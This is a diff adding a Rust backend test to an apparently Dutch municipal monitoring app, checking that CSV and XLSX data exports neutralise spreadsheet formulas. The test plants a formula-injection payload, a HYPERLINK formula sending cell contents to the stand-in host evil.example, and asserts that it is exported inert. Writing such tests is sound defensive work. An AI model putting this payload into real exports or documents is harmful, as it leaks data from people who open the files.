@@ -570,3 +570,31 @@ backend_test! {
         assert!(!other.body.contains("Voorgesteld in"));
     }
 }
+
+backend_test! {
+    async fn exports_run_no_formulas_and_every_buurt_exports_as_xlsx(database) {
+        let site = TestSite::with_demo(database).await;
+        let college = Visitor::signed_in(&site, Role::College, "10.50.9.1:4000").await;
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
+        let mut fields = indicator_fields("FORMULE", formula, "", "");
+        fields.retain(|(field, _)| !["programme", "status"].contains(field));
+        fields.extend([("status", "vastgesteld"), ("is_published", "ja")]);
+        let created = site.post("/monitor/indicatoren/nieuw", &fields, &college).await;
+        assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
+
+        let public = Visitor::anonymous(&site, "10.50.9.2:4000").await;
+        let csv = site.get("/monitor/gebied/WK016401/data.csv", &public).await;
+        assert_eq!(csv.status, StatusCode::OK);
+        assert!(csv.body.contains("'=HYPERLINK"), "{}", csv.body);
+        for line in csv.body.trim_start_matches('\u{feff}').lines() {
+            for cell in line.split(';') {
+                assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '@']), "a live formula: {line}");
+            }
+        }
+        // Buurten whose names start with an apostrophe ('t Wilbert, 't Rot) are sheets too.
+        for code in ["BU01640102", "BU01640204"] {
+            let xlsx = site.get(&format!("/monitor/gebied/{code}/data.xlsx"), &public).await;
+            assert_eq!(xlsx.status, StatusCode::OK, "{code}: {}", xlsx.body);
+        }
+    }
+}
